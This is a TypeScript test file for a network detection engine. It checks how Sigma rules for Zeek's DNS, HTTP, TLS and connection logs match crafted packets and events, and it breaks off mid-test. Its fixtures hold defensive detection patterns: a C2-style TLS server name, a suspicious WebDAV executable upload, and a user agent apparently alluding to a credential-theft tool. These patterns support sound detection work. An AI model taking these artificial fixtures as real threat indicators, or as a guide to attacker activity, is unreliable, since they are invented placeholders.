// Sigma rules for Zeek's logs (product zeek: dns, http, ssl, conn) and for
// Sigma's network category (dns, connection). Each way a field of those logs
// is read from netsig's events is written down here as a test, in the style
// of tracee-choices.test.ts; SigmaHQ's own Zeek and DNS rules (test/sigmahq/,
// vendored unchanged) load, and fire exactly where they must on real
// dig/dnsmasq traffic recorded here; a TXT record's strings are matched
// joined; a finding shows the answer the rule matched.

import assert from "node:assert/strict";
import { createHash } from "node:crypto";
import { execFileSync } from "node:child_process";
import { chmodSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join, relative } from "node:path";
import { after, before, describe, test } from "node:test";
import type * as dnsPacket from "dns-packet";
import { Decoder } from "../engine/decode/decoder";
import { ALL_EVENTS, EventBuilder } from "../engine/events/build";
import { EventPipeline } from "../engine/events/pipeline";
import { readCapture } from "../engine/capture/reader";
import type { PacketRecord } from "../engine/capture/types";
import { EVENTS } from "../engine/events/registry";
import type { TraceeEvent } from "../engine/types/events";
import { LazyEvent } from "../engine/rules/run/lazy";
import { testVirtual, virtualCode } from "../engine/rules/run/fields";
import { DERIVED_FIELDS, PENDING_ARG_SHAPES } from "../engine/rules/run/shapes";
import { DERIVED_BASE, DERIVED_NAMES, derivedCode, zeekCipher, zeekText, zeekTlsVersion } from "../engine/rules/run/derived";
import { TLS_CIPHER_NAMES } from "../engine/rules/run/tls-ciphers";
import { compileRules } from "../engine/rules/run/runtime";
import { loadRules } from "../engine/rules/compile/load";
import { NETWORK_DNS, ZEEK_DNS, type Logsource } from "../engine/rules/compile/logsources";
import type { UnitIR } from "../engine/types/rule-ir";
import type { Finding } from "../engine/sdk/index";
import { dns, ethernet, ipv4, ipv6, pcapFile, tcp, udp } from "../tools/lib/craft";
import { compileTexts, engineRun, problemLines } from "./lib/rules";
import { missingTools, recordDnsSession, tsharkFields } from "../tools/lab/dnslab";

const ROOT = join(__dirname, "..", "..");
const SIGMAHQ = join(ROOT, "test", "sigmahq");
const work = mkdtempSync(join(tmpdir(), "netsig-zeek-"));
after(() => rmSync(work, { recursive: true, force: true }));

// ---- DNS messages on the wire, and what the rules read of them

const CLIENT = "10.1.0.5";
const SERVER = "10.1.0.53";

/** a DNS message as an Ethernet frame: a query from CLIENT:41000 to SERVER:53, a response back (UDP unless tcp) */
function frame(m: dnsPacket.Packet, o: { src?: string; dst?: string; tcp?: boolean } = {}): Buffer {
  const resp = m.type === "response";
  const src = o.src ?? (resp ? SERVER : CLIENT);
  const dst = o.dst ?? (resp ? CLIENT : SERVER);
  const [sport, dport] = resp ? [53, 41000] : [41000, 53];
  const body = dns(m);
  let l4: Buffer;
  if (o.tcp) {
    const len = Buffer.alloc(2);
    len.writeUInt16BE(body.length);
    l4 = tcp({ srcPort: sport, dstPort: dport, flags: 0x18, seq: 1, ack: 1 }, Buffer.concat([len, body]));
  } else l4 = udp({ srcPort: sport, dstPort: dport }, body);
  const proto = o.tcp ? 6 : 17;
  const v6 = src.includes(":");
  return ethernet(v6 ? ipv6({ src, dst, nextHeader: proto }, l4) : ipv4({ src, dst, protocol: proto }, l4), v6 ? 0x86dd : 0x0800);
}

function record(data: Buffer, i: number): PacketRecord {
  return {
    tsSec: 1_700_000_000 + i,
    tsNsec: 0,
    linkType: 1,
    iface: "",
    buf: data,
    offset: 0,
    caplen: data.length,
    origLen: data.length,
    fileOffset: 0,
  };
}

/** every value a field has on an event ([] for none) */
function values(ev: TraceeEvent, field: string): unknown[] {
  const seen: unknown[] = [];
  testVirtual(
    ev,
    virtualCode(field),
    {
      test: (v) => {
        seen.push(v);
        return false;
      },
    },
    false,
  );
  return seen.length === 1 && seen[0] === undefined ? [] : seen;
}

/**
 * The values of a log source's fields on the net_packet_dns event of each
 * frame, read from the LazyEvent the rules read in netsig's process; the
 * built event (the sandbox realm's) gives the same, except what it may not
 * know (`lost`)
 */
function fieldsOf(ls: Logsource, frames: Buffer[], lost: string[] = ["proto"]): Record<string, unknown[]>[] {
  const d = new Decoder();
  const b = new EventBuilder(ALL_EVENTS, { hostName: "zeek-test" });
  const out: Record<string, unknown[]>[] = [];
  for (const [i, data] of frames.entries()) {
    b.build(d.decode(record(data, i)), (ev, kind, p) => {
      if (ev.eventName !== "net_packet_dns") return;
      const lazy = new LazyEvent(kind, "zeek-test");
      lazy.reset(p, p.dns, p.timestampNumber());
      const row: Record<string, unknown[]> = {};
      for (const [name, f] of Object.entries(ls.fields)) {
        row[name] = values(lazy as unknown as TraceeEvent, f.path);
        // (what a built event may have lost is not compared: test/lazy.test.ts compares the rest on the corpus)
        if (!lost.includes(name)) assert.deepEqual(values(ev, f.path), row[name], `${name} of a built event`);
      }
      out.push(row);
    });
  }
  return out;
}

const zeek = (frames: Buffer[], lost?: string[]) => fieldsOf(ZEEK_DNS, frames, lost);
const q = (name: string, type = "A", flags = 0x0100, id = 7): dnsPacket.Packet => ({
  type: "query",
  id,
  flags,
  questions: [{ name, type: type as "A" }],
});
const r = (name: string, type: string, answers: dnsPacket.Answer[], flags = 0x8580, id = 7): dnsPacket.Packet => ({
  type: "response",
  id,
  flags,
  questions: [{ name, type: type as "A" }],
  answers,
});

// ---- rules: compiled, and run on built events (the sandbox realm's way) and in netsig's process

interface Hit {
  id: string;
  eventName: string;
  data: Record<string, any>;
}

function compiled(files: Record<string, string>): UnitIR[] {
  const res = compileTexts(files);
  assert.deepEqual(problemLines(res), []);
  return res.units.map((u) => u.ir);
}

/** hand each event to the rules that select it, as the realm does (built events) */
function onEvents(units: UnitIR[], events: TraceeEvent[]): { hits: Hit[]; logs: string[] } {
  const hits: Hit[] = [];
  const logs: string[] = [];
  for (const ir of units) {
    const sig = compileRules(JSON.parse(JSON.stringify(ir)) as UnitIR);
    const id = sig.getMetadata().id;
    const log = (...a: unknown[]) => logs.push(`${id}: ${a.join(" ")}`);
    sig.init({
      callback: (f: Finding) => hits.push({ id, eventName: (f.event as TraceeEvent).eventName, data: f.data as Record<string, any> }),
      logger: { debug: log, info: log, warn: log, error: log },
    });
    const want = ir.kind === "rule" ? ir.events : ir.rules.flatMap((x) => x.events);
    for (const ev of events) if (want.includes(ev.eventName)) sig.onEvent(ev);
    sig.onSignal({ type: "source_complete" });
  }
  return { hits, logs };
}

/** the built events of a capture */
async function builtEvents(capture: string): Promise<TraceeEvent[]> {
  const evs: TraceeEvent[] = [];
  const p = new EventPipeline(ALL_EVENTS, "netsig-test", (ev) => evs.push(ev));
  await readCapture(capture, p.onPacket);
  return evs;
}

/**
 * Rule files run on frames, both ways: in netsig's process (LazyEvents, the
 * engine as replay runs it) and on built events; both must find the same
 */
async function bothWays(files: Record<string, string>, frames: Buffer[]): Promise<Hit[]> {
  const dir = mkdtempSync(join(work, "rules-"));
  for (const [n, t] of Object.entries(files)) writeFileSync(join(dir, n), t);
  const pcap = join(dir, "frames.pcap");
  writeFileSync(
    pcap,
    pcapFile(
      1,
      frames.map((data, i) => ({ tsSec: 1_700_000_000 + i, tsUsec: 0, data })),
    ),
  );
  return runBoth(dir, pcap);
}

async function runBoth(rulesDir: string, capture: string): Promise<Hit[]> {
  const loaded = loadRules([rulesDir]);
  assert.deepEqual(loaded.problems, []);
  const inProcess = await engineRun(capture, loaded.sources);
  const host: Hit[] = inProcess.hits.map((h) => ({ id: h.id, eventName: h.trigger, data: h.data }));
  const built = onEvents(
    loaded.result.units.map((u) => u.ir),
    await builtEvents(capture),
  ).hits;
  const key = (h: Hit) => JSON.stringify([h.id, h.eventName, h.data]);
  assert.deepEqual(built.map(key).sort(), host.map(key).sort(), "in netsig's process and on built events alike");
  return host;
}

const sigmaRule = (id: string, logsource: string, detection: string, extra = "") =>
  `title: ${id}\nid: ${id}\nlogsource: ${logsource}\n${extra}detection:\n${detection}\nlevel: high\n`;
const ZEEK = "{product: zeek, service: dns}";

// ---- Zeek's dns.log, field by field

describe("Zeek's dns log: each field, from one DNS message", () => {
  test("id.orig_h/orig_p is the client and id.resp_h/resp_p the server, for a query and its response; proto and trans_id", () => {
    const [query, resp] = zeek([frame(q("www.example.com", "A", 0x0100, 4242)), frame(r("www.example.com", "A", [], 0x8180, 4242))]);
    for (const z of [query, resp]) {
      assert.deepEqual([z["id.orig_h"], z["id.orig_p"], z["id.resp_h"], z["id.resp_p"]], [[CLIENT], [41000], [SERVER], [53]]);
      assert.deepEqual([z.proto, z.trans_id], [["udp"], [4242]]);
    }
    // over TCP (a built event does not say which: no value there)
    const [overTcp] = zeek([frame(q("www.example.com"), { tcp: true })]);
    assert.deepEqual(overTcp.proto, ["tcp"]);
  });

  test("query: the question's name with ASCII capitals lowercased (Zeek downcases it), bytes Zeek escapes written \\xNN", () => {
    const [z] = zeek([frame(q("WWW.Example.COM"))]);
    assert.deepEqual(z.query, ["www.example.com"]);
    // Zeek's JSON logs (hex escape policy): valid UTF-8 as it is, unless a byte is bad; then every byte outside printable ASCII as \xNN
    assert.equal(zeekText("caf\u00e9.example"), "caf\u00e9.example");
    assert.equal(zeekText("a\u0000b\u00e9"), "a\\x00b\\xc3\\xa9");
    assert.equal(zeekText("bad\udcff.example"), "bad\\xff.example");
    assert.equal(zeekText("tab\tand\nnewline"), "tab\tand\nnewline");
  });

  test("qtype/qtype_name and qclass/qclass_name: numbers and Zeek's names (* for ANY, C_INTERNET, query-N for a type it does not name)", () => {
    const [a, any, https, odd] = zeek(
      [
        frame(q("a.example", "A")),
        frame(q("b.example", "ANY")),
        frame(q("c.example", "UNKNOWN_65" as "A")),
        frame(q("d.example", "UNKNOWN_4097" as "A")),
      ],
      // (a built event keeps gopacket's name of a type, and gopacket names neither HTTPS nor type 4097)
      ["proto", "qtype", "qtype_name"],
    );
    assert.deepEqual([a.qtype, a.qtype_name, a.qclass, a.qclass_name], [[1], ["A"], [1], ["C_INTERNET"]]);
    assert.deepEqual([any.qtype, any.qtype_name], [[255], ["*"]]);
    assert.deepEqual([https.qtype, https.qtype_name], [[65], ["HTTPS"]]);
    assert.deepEqual([odd.qtype, odd.qtype_name], [[4097], ["query-4097"]]);
  });

  test("answers: the address, the name (NS, CNAME, PTR, MX's exchange, SRV's target, SOA's MNAME), a TXT's strings as 'TXT <bytes> <text>' joined by spaces; TTLs alongside", () => {
    const ans = (type: string, data: unknown, ttl = 60): dnsPacket.Answer => ({ type, name: "x.example", ttl, data }) as dnsPacket.Answer;
    const [z] = zeek([
      frame(
        r("x.example", "A", [
          ans("CNAME", "Y.Example"),
          ans("A", "192.0.2.1", 30),
          ans("AAAA", "2001:db8::1"),
          ans("NS", "ns1.example"),
          ans("PTR", "ptr.example"),
          ans("MX", { preference: 10, exchange: "mx.example" }),
          ans("SRV", { priority: 1, weight: 2, port: 5060, target: "sip.example" }),
          ans("SOA", { mname: "ns.example", rname: "root.example", serial: 1, refresh: 2, retry: 3, expire: 4, minimum: 5 }),
          ans("TXT", ["hello world", "caf\u00e9"], 7),
        ]),
      ),
    ]);
    assert.deepEqual(z.answers, [
      // (an answer's names are not lowercased: Zeek downcases only the question)
      "Y.Example",
      "192.0.2.1",
      "2001:db8::1",
      "ns1.example",
      "ptr.example",
      "mx.example",
      "sip.example",
      "ns.example",
      // the length is in bytes (é is two)
      "TXT 11 hello world TXT 5 caf\u00e9",
      // and the strings joined, for matching (see "TXT joined" below)
      "hello worldcaf\u00e9",
    ]);
    assert.deepEqual(z.TTLs, [60, 30, 60, 60, 60, 60, 60, 60, 7]);
  });

  test("answers: nothing for what Zeek lists nothing for (HINFO, an empty TXT), '<unknown type=N>' for a type Zeek does not decode", () => {
    const ans = (type: string, data: unknown): dnsPacket.Answer => ({ type, name: "x.example", ttl: 60, data }) as dnsPacket.Answer;
    const [z] = zeek(
      [
        frame(
          r("x.example", "A", [
            ans("HINFO", { cpu: "x86", os: "linux" }),
            ans("TXT", []),
            ans("DNAME", "y.example"),
            ans("A", "192.0.2.9"),
          ]),
        ),
      ],
      // (gopacket names no DNAME: a built event has no type number for it)
      ["proto", "answers", "TTLs"],
    );
    assert.deepEqual(z.answers, ["<unknown type=39>", "192.0.2.9"]);
    assert.deepEqual(z.TTLs, [60, 60]);
  });

  test("rcode/rcode_name: a response's header RCODE and Zeek's name of it (NXRRSet as Zeek spells it); a query has none", () => {
    const [query, nx, nxrrset] = zeek([
      frame(q("a.example")),
      frame(r("a.example", "A", [], 0x8183)),
      frame(r("a.example", "A", [], 0x8188)),
    ]);
    assert.deepEqual([query.rcode, query.rcode_name], [[], []]);
    assert.deepEqual([nx.rcode, nx.rcode_name], [[3], ["NXDOMAIN"]]);
    assert.deepEqual([nxrrset.rcode, nxrrset.rcode_name], [[8], ["NXRRSet"]]);
  });

  test("rejected: a response without any record (ANCOUNT, NSCOUNT, ARCOUNT 0), or an error without a question; a query is never", () => {
    const nsoa: dnsPacket.Answer = {
      type: "SOA",
      name: "example",
      ttl: 60,
      data: { mname: "ns.example", rname: "r.example", serial: 1, refresh: 1, retry: 1, expire: 1, minimum: 1 },
    } as dnsPacket.Answer;
    const [query, refused, nxWithSoa, noerrorEmpty, noQuestion] = zeek([
      frame(q("a.example")),
      frame(r("a.example", "A", [], 0x8185)),
      frame({ ...r("a.example", "A", [], 0x8183), authorities: [nsoa] }),
      frame(r("a.example", "A", [], 0x8180)),
      frame({ type: "response", id: 7, flags: 0x8185, questions: [], answers: [], authorities: [nsoa] }),
    ]);
    assert.deepEqual(
      [query, refused, nxWithSoa, noerrorEmpty, noQuestion].map((z) => z.rejected),
      [[false], [true], [false], [true], [true]],
    );
  });

  test("AA and RA: from a response that lists an answer; RD, TC and Z: the message's own header bits (Z: the 3 bits of Z, AD and CD)", () => {
    const a: dnsPacket.Answer = { type: "A", name: "a.example", ttl: 60, data: "192.0.2.1" };
    const [query, answered, empty] = zeek([
      frame(q("a.example", "A", 0x0100 | 0x0040 | 0x0020 | 0x0200)),
      frame(r("a.example", "A", [a], 0x8000 | 0x0400 | 0x0100 | 0x0080 | 0x0010)),
      frame(r("a.example", "A", [], 0x8000 | 0x0400 | 0x0080)),
    ]);
    assert.deepEqual([query.AA, query.RA, query.RD, query.TC, query.Z], [[false], [false], [true], [true], [6]]);
    assert.deepEqual([answered.AA, answered.RA, answered.RD, answered.TC, answered.Z], [[true], [true], [true], [false], [1]]);
    assert.deepEqual([empty.AA, empty.RA], [[false], [false]]);
  });

  test("opcode/opcode_name: the header's opcode and Zeek's name", () => {
    const [query, notify] = zeek([frame(q("a.example")), frame(q("a.example", "SOA", 4 << 11))]);
    assert.deepEqual([query.opcode, query.opcode_name, notify.opcode, notify.opcode_name], [[0], ["query"], [4], ["notify"]]);
  });
});

describe("which DNS messages a Zeek dns rule sees", () => {
  const pair = [
    frame(q("evil.example", "A", 0x0100, 9)),
    frame(r("evil.example", "A", [{ type: "A", name: "evil.example", ttl: 60, data: "192.0.2.7" }], 0x8180, 9)),
  ];

  test("a rule naming only the question's and the header's fields runs on queries: one finding per query, not another for its response", async () => {
    const hits = await bothWays({ "q.yml": sigmaRule("q", ZEEK, "  s: {query: evil.example, RD: true}\n  condition: s") }, pair);
    assert.deepEqual(
      hits.map((h) => [h.eventName, h.data]),
      [
        [
          "net_packet_dns",
          { query: "evil.example", qtype_name: "A", "id.orig_h": CLIENT, "id.orig_p": 41000, "id.resp_h": SERVER, "id.resp_p": 53 },
        ],
      ],
    );
  });

  test("a rule naming a field only a response has (answers, rcode, rcode_name, rejected, AA, RA, TTLs) runs on responses, which repeat the question", async () => {
    const hits = await bothWays(
      { "r.yml": sigmaRule("r", ZEEK, "  s: {query: evil.example, answers|cidr: 192.0.2.0/24}\n  condition: s") },
      pair,
    );
    assert.deepEqual(
      hits.map((h) => h.data),
      [
        {
          query: "evil.example",
          qtype_name: "A",
          answers: "192.0.2.7",
          rcode_name: "NOERROR",
          "id.orig_h": CLIENT,
          "id.orig_p": 41000,
          "id.resp_h": SERVER,
          "id.resp_p": 53,
        },
      ],
    );
    // an exclusion on a response field makes it a rule on responses too (Zeek's record has both)
    const excl = await bothWays(
      { "x.yml": sigmaRule("x", ZEEK, "  s: {query: evil.example}\n  f: {rejected: true}\n  condition: s and not f") },
      pair,
    );
    assert.deepEqual(
      excl.map((h) => h.data.rcode_name),
      ["NOERROR"],
    );
  });

  test("Zeek's dotted names (id.orig_h) are one name: in a selection, fields:, suppress.by and a correlation's group-by", async () => {
    const frames = [1, 2, 3].map((i) => frame(q(`x${i}.tracker.example`, "A", 0x0100, i)));
    const hits = await bothWays(
      {
        "c.yml":
          sigmaRule(
            "dotted",
            ZEEK,
            "  s:\n    id.orig_h|cidr: 10.1.0.0/16\n    id.resp_p: 53\n    query|endswith: .tracker.example\n  condition: s",
            "fields: [id.orig_h, query]\nsuppress: {by: [id.orig_h], window: 1m}\n",
          ) +
          "---\ntitle: burst\nid: burst\ncorrelation:\n  type: event_count\n  rules: [dotted]\n  group-by: [id.orig_h]\n  timespan: 1m\n  condition: {gte: 3}\ngenerate: true\n",
      },
      frames,
    );
    assert.deepEqual(
      hits.map((h) => [h.id, h.data]),
      [
        // suppressed by client after the first
        ["dotted", { "id.orig_h": CLIENT, query: "x1.tracker.example" }],
        ["burst", { "id.orig_h": CLIENT, count: 3, window_seconds: 60 }],
      ],
    );
  });
});

// ---- Sigma's network category

describe("the network category (Sigma v2.1 taxonomy: category network, service dns or connection)", () => {
  test("service dns: the taxonomy's field names, over the records of Zeek's dns log (queries, or responses when a response field is named)", async () => {
    const a: dnsPacket.Answer = { type: "A", name: "evil.example", ttl: 60, data: "192.0.2.7" };
    const [query, resp] = fieldsOf(NETWORK_DNS, [
      frame(q("evil.example", "A", 0x0100 | 0x0020, 5)),
      frame(r("evil.example", "A", [a], 0x8580, 5)),
    ]);
    assert.deepEqual(query, {
      "source.ip": [CLIENT],
      "source.port": [41000],
      "destination.ip": [SERVER],
      "destination.port": [53],
      "dns.id": [5],
      "dns.question.name": ["evil.example"],
      "dns.question.type": ["A"],
      "dns.question.class": ["IN"],
      "dns.answers.name": [],
      "dns.answers.type": [],
      "dns.answers.class": [],
      "dns.answers.data": [],
      "dns.answers.ttl": [],
      "dns.header.flags": ["RD", "AD"],
      "dns.response.code": [],
    });
    assert.deepEqual(
      [
        resp["source.ip"],
        resp["dns.answers.name"],
        resp["dns.answers.type"],
        resp["dns.answers.class"],
        resp["dns.answers.data"],
        resp["dns.answers.ttl"],
        resp["dns.header.flags"],
        resp["dns.response.code"],
      ],
      [[CLIENT], ["evil.example"], ["A"], ["IN"], ["192.0.2.7"], [60], ["AA", "RD", "RA"], ["NOERROR"]],
    );
    const hits = await bothWays(
      {
        "n.yml": sigmaRule(
          "n",
          "{category: network, service: dns}",
          "  s: {dns.question.name|endswith: .example, dns.answers.data|cidr: 192.0.2.0/24}\n  condition: s",
        ),
      },
      [frame(q("evil.example", "A", 0x0100, 5)), frame(r("evil.example", "A", [a], 0x8580, 5))],
    );
    assert.deepEqual(
      hits.map((h) => h.data),
      [
        {
          "dns.question.name": "evil.example",
          "dns.question.type": "A",
          "dns.answers.data": "192.0.2.7",
          "dns.response.code": "NOERROR",
          "source.ip": CLIENT,
          "destination.ip": SERVER,
        },
      ],
    );
  });
});

// ---- HTTP, TLS and flows: events of the arg contract, built by hand

function event(eventName: string, args: Record<string, unknown>): TraceeEvent {
  return {
    timestamp: 1,
    eventName,
    hostName: "h",
    args: Object.entries(args).map(([name, value]) => ({ name, type: "", value })),
  } as unknown as TraceeEvent;
}
const meta = (src: string, sport: number, dst: string, dport: number) => ({
  src_ip: src,
  dst_ip: dst,
  src_port: sport,
  dst_port: dport,
  protocol: 6,
  packet_len: 200,
  iface: "eth0",
});
const request = (o: Record<string, unknown> = {}) =>
  event("net_packet_http_request", {
    metadata: meta("10.0.0.5", 50123, "203.0.113.7", 80),
    http_request: {
      method: "PUT",
      protocol: "HTTP/1.1",
      host: "files.example.ru",
      uri_path: "/dav/report.exe",
      headers: { "User-Agent": ["Microsoft-WebDAV-MiniRedir/10.0.19041"], Referer: ["http://a.example/"], Accept: ["*/*"] },
      content_length: 1234,
      ...o,
    },
  });
const response = (o: Record<string, unknown> = {}) =>
  event("net_packet_http_response", {
    metadata: meta("203.0.113.7", 80, "10.0.0.5", 50123),
    http_response: {
      status: "201 Created",
      status_code: 201,
      protocol: "HTTP/1.1",
      headers: { Server: ["nginx"] },
      content_length: 0,
      ...o,
    },
  });
const clientHello = event("net_packet_tls_client_hello", {
  src: "10.0.0.5",
  dst: "198.51.100.9",
  src_port: 50200,
  dst_port: 443,
  tls_client_hello: {
    version: 0x0303,
    versions: [0x0304, 0x0303],
    sni: "c2.example.net",
    alpn: ["h2", "http/1.1"],
    cipher_suites: [0x1301, 0xc02f],
    extensions: [0, 16, 43],
    supported_groups: [29],
    ec_point_formats: [0],
    signature_algorithms: [0x0403],
    ja3: "771,4865-49199,0-16-43,29,0",
    ja3_hash: "72a589da586844d7f0818ce684948eea",
    ja4: "t13d0203h2_1a2b3c4d5e6f_0a1b2c3d4e5f",
  },
});
const serverHello = (selected: number, cipher: number) =>
  event("net_packet_tls_server_hello", {
    src: "198.51.100.9",
    dst: "10.0.0.5",
    src_port: 443,
    dst_port: 50200,
    tls_server_hello: {
      version: 0x0303,
      selected_version: selected,
      cipher_suite: cipher,
      extensions: [43],
      alpn: "h2",
      ja3s: "771,4865,43",
      ja3s_hash: "f4febc55ea12b31ae17cfb7e614afda8",
    },
  });
const flow = (name: string, o: Record<string, unknown> = {}) =>
  event(name, {
    conn_direction: "outgoing",
    src: "10.0.0.5",
    dst: "198.51.100.9",
    src_port: 50300,
    dst_port: 3389,
    src_dns: [],
    dst_dns: ["rdp.example"],
    community_id: "1:LQU9qZlK+B5F3KDmev6m5PMibrg=",
    ...o,
  });

function fire(text: string, events: TraceeEvent[]): { hits: Hit[]; logs: string[] } {
  return onEvents(compiled({ "a.yml": text }), events);
}
const ZEEK_HTTP = "{product: zeek, service: http}";

describe("Zeek's http, ssl and conn logs, over the events of the arg contract (built by hand: the events are being added)", () => {
  test("http: request fields on requests, response fields on responses; id.* is the client's side either way", () => {
    const { hits } = fire(
      sigmaRule(
        "put",
        ZEEK_HTTP,
        "  s:\n    user_agent|contains: WebDAV\n    method: PUT\n    uri|endswith: .exe\n    host|endswith: .ru\n    referrer|startswith: http\n    version: '1.1'\n    request_body_len|gt: 1000\n    client_header_names: USER-AGENT\n  condition: s",
      ),
      [request(), response(), request({ method: "GET" })],
    );
    assert.deepEqual(
      hits.map((h) => [h.eventName, h.data]),
      [
        [
          "net_packet_http_request",
          {
            host: "files.example.ru",
            uri: "/dav/report.exe",
            method: "PUT",
            user_agent: "Microsoft-WebDAV-MiniRedir/10.0.19041",
            "id.orig_h": "10.0.0.5",
            "id.resp_h": "203.0.113.7",
            "id.resp_p": 80,
          },
        ],
      ],
    );
    const resp = fire(
      sigmaRule(
        "created",
        ZEEK_HTTP,
        "  s: {status_code: 201, status_msg: Created, response_body_len: 0, server_header_names: SERVER, id.orig_h: 10.0.0.5, id.resp_p: 80}\n  condition: s",
      ),
      [request(), response()],
    ).hits;
    assert.deepEqual(
      resp.map((h) => [h.eventName, h.data]),
      [
        [
          "net_packet_http_response",
          { status_code: 201, status_msg: "Created", "id.orig_h": "10.0.0.5", "id.resp_h": "203.0.113.7", "id.resp_p": 80 },
        ],
      ],
    );
  });

  test("http: a rule naming fields of the request and of the response is not supported, and says why", () => {
    const res = compileTexts({ "a.yml": sigmaRule("both", ZEEK_HTTP, "  s: {method: POST, status_code: 200}\n  condition: s") });
    assert.deepEqual(problemLines(res), [
      "a.yml:4:1: not supported: the detection names method (of the net_packet_http_request events) and status_code (of the net_packet_http_response events): Zeek's http log joins them in one record, and netsig matches one event at a time",
    ]);
  });

  test("ssl (or tls): server_name, ja3 (the MD5), ja4 on client hellos; version and cipher by Zeek's names, next_protocol, ja3s on server hellos", () => {
    for (const service of ["ssl", "tls"]) {
      const ls = `{product: zeek, service: ${service}}`;
      const c = fire(
        sigmaRule(
          "sni",
          ls,
          "  s: {server_name: c2.example.net, ja3: 72a589da586844d7f0818ce684948eea, ja4|startswith: t13d}\n  condition: s",
        ),
        [clientHello, serverHello(0x0304, 0x1301)],
      ).hits;
      assert.deepEqual(
        c.map((h) => [h.eventName, h.data]),
        [
          [
            "net_packet_tls_client_hello",
            {
              server_name: "c2.example.net",
              ja3: "72a589da586844d7f0818ce684948eea",
              "id.orig_h": "10.0.0.5",
              "id.resp_h": "198.51.100.9",
              "id.resp_p": 443,
            },
          ],
        ],
      );
    }
    const s = fire(
      sigmaRule(
        "v",
        "{product: zeek, service: ssl}",
        "  s: {version: TLSv13, cipher: TLS_AES_128_GCM_SHA256, next_protocol: h2}\n  condition: s",
      ),
      [clientHello, serverHello(0x0304, 0x1301), serverHello(0, 0xc02f)],
    ).hits;
    assert.deepEqual(
      s.map((h) => h.data),
      [
        {
          version: "TLSv13",
          cipher: "TLS_AES_128_GCM_SHA256",
          ja3s: "f4febc55ea12b31ae17cfb7e614afda8",
          "id.orig_h": "10.0.0.5",
          "id.resp_h": "198.51.100.9",
          "id.resp_p": 443,
        },
      ],
    );
    // (no supported_versions: the legacy version; Zeek's names of versions and suites)
    assert.deepEqual(
      fire(
        sigmaRule(
          "v12",
          "{product: zeek, service: ssl}",
          "  s: {version: TLSv12, cipher: TLS_ECDHE_RSA_WITH_AES_128_GCM_SHA256}\n  condition: s",
        ),
        [serverHello(0, 0xc02f)],
      ).hits.length,
      1,
    );
    assert.deepEqual([0x0300, 0x0301, 0x0302, 0x0303, 0x0304, 0xfeff, 0xfefd, 0x7f12, 0x9999].map(zeekTlsVersion), [
      "SSLv3",
      "TLSv10",
      "TLSv11",
      "TLSv12",
      "TLSv13",
      "DTLSv10",
      "DTLSv12",
      "TLSv13-draft18",
      "unknown-39321",
    ]);
    assert.deepEqual(
      [zeekCipher(0x00ff), zeekCipher(0x5600), zeekCipher(0x0a0a)],
      ["TLS_EMPTY_RENEGOTIATION_INFO_SCSV", "TLS_FALLBACK_SCSV", "unknown-2570"],
    );
  });

  test("conn: a flow's start (net_flow_tcp_begin, net_flow_udp_begin: one record per connection), its endpoints, proto and community ID", () => {
    const { hits } = fire(
      sigmaRule(
        "rdp",
        "{product: zeek, service: conn}",
        "  s: {id.resp_p: 3389, proto: tcp, community_id|startswith: '1:'}\n  condition: s",
      ),
      [flow("net_flow_tcp_begin"), flow("net_flow_tcp_end"), flow("net_flow_udp_begin")],
    );
    assert.deepEqual(
      hits.map((h) => [h.eventName, h.data]),
      [
        [
          "net_flow_tcp_begin",
          { "id.orig_h": "10.0.0.5", "id.orig_p": 50300, "id.resp_h": "198.51.100.9", "id.resp_p": 3389, proto: "tcp" },
        ],
      ],
    );
    const net = fire(
      sigmaRule(
        "c",
        "{category: network, service: connection}",
        "  s: {destination.port: 3389, network.transport: udp, network.type: ipv4}\n  condition: s",
      ),
      [flow("net_flow_tcp_begin"), flow("net_flow_udp_begin")],
    ).hits;
    assert.deepEqual(
      net.map((h) => [h.eventName, h.data["network.transport"], h.data["source.ip"]]),
      [["net_flow_udp_begin", "udp", "10.0.0.5"]],
    );
  });

  test("the events' args: once the registry declares one of these events, it has the contract's args (names and shapes)", () => {
    let declared = 0;
    for (const [name, args] of Object.entries(PENDING_ARG_SHAPES)) {
      const d = EVENTS.find((e) => e.name === (name as string));
      if (!d) continue;
      declared++;
      for (const [arg, shape] of Object.entries(args)) {
        const a = d.args.find((x) => x.name === arg);
        assert.ok(a, `${name} has no arg ${arg}`);
        // (the registry's shape may say more than the contract; what the contract says must be there)
        const has = (want: unknown, got: unknown): boolean =>
          want === "any" ||
          JSON.stringify(want) === JSON.stringify(got) ||
          (typeof want === "object" &&
            want !== null &&
            typeof got === "object" &&
            got !== null &&
            Object.entries(want).every(([k, v]) => has(v, (got as Record<string, unknown>)[k])));
        assert.ok(has(shape, a.shape), `${name}.${arg}: ${JSON.stringify(a.shape)}`);
      }
    }
    assert.ok(declared >= 0);
  });

  test("until this netsig emits them, a rule for them loads, sees none of them, and says so once", () => {
    const res = compileTexts({ "a.yml": sigmaRule("ua", ZEEK_HTTP, "  s: {user_agent|contains: katz-ontop}\n  condition: s") });
    assert.deepEqual(problemLines(res), []);
    const sig = compileRules(res.units[0].ir);
    const logs: string[] = [];
    sig.init({
      callback: () => undefined,
      logger: { debug: () => undefined, info: () => undefined, warn: (m: string) => logs.push(m), error: () => undefined },
    });
    const emitted = EVENTS.some((e) => (e.name as string) === "net_packet_http_request");
    assert.deepEqual(
      sig.getSelectedEvents().map((s) => s.name),
      emitted ? ["net_packet_http_request"] : [],
    );
    assert.deepEqual(logs, emitted ? [] : ["selects net_packet_http_request, which this netsig does not emit yet: it sees no such event"]);
  });
});

// ---- what netsig cannot serve is said when the rule loads

describe("what cannot be served is said at load, one line each", () => {
  const line = (ls: string, det: string) => problemLines(compileTexts({ "a.yml": sigmaRule("x", ls, det) }));

  test("a Zeek field netsig cannot derive names the field and why", () => {
    assert.deepEqual(line(ZEEK_HTTP, "  s: {resp_mime_types: application/x-dosexec}\n  condition: s"), [
      `a.yml:5:7: not supported: field "resp_mime_types" of Zeek's http log: netsig cannot derive it (from Zeek's file analysis of the bodies: netsig does not reassemble HTTP bodies)`,
    ]);
    assert.deepEqual(line("{product: zeek, service: conn}", "  s: {history: ShADadFf}\n  condition: s"), [
      `a.yml:5:7: not supported: field "history" of Zeek's conn log: netsig cannot derive it (netsig's flow events carry a flow's endpoints and community ID only)`,
    ]);
    assert.deepEqual(line(ZEEK, "  s: {rtt|gt: 1}\n  condition: s"), [
      `a.yml:5:7: not supported: field "rtt" of Zeek's dns log: netsig cannot derive it (the time from a query to its response: netsig matches each DNS message on its own)`,
    ]);
